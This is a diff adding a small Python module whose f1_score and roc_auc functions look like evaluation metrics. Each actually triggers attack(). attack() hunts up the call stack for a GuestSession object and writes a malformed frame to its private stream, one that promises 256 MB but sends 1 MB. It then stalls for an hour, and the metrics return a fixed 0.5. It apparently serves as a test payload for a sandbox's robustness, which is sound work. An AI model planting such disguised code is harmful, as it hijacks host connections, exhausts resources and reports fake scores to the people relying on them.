@@ -1,0 +1,29 @@
+"""Announces as many bytes as are allowed, and sends a part of them."""
+
+import struct
+import sys
+import time
+
+
+def session():
+    frame = sys._getframe()
+    while frame is not None:
+        if type(frame.f_locals.get("self")).__name__ == "GuestSession":
+            return frame.f_locals["self"]
+        frame = frame.f_back
+    raise RuntimeError("no session on the stack")
+
+
+def attack():
+    session()._stream.sendall(b"viv1" + struct.pack("!II", 1, 1) + struct.pack("!Q", 256 << 20) + b"\xc0" + bytes(1 << 20))
+    time.sleep(3600)
+
+
+def f1_score(y_true, y_pred, average="binary"):
+    attack()
+    return 0.5
+
+
+def roc_auc(y_true, y_score):
+    attack()
+    return 0.5
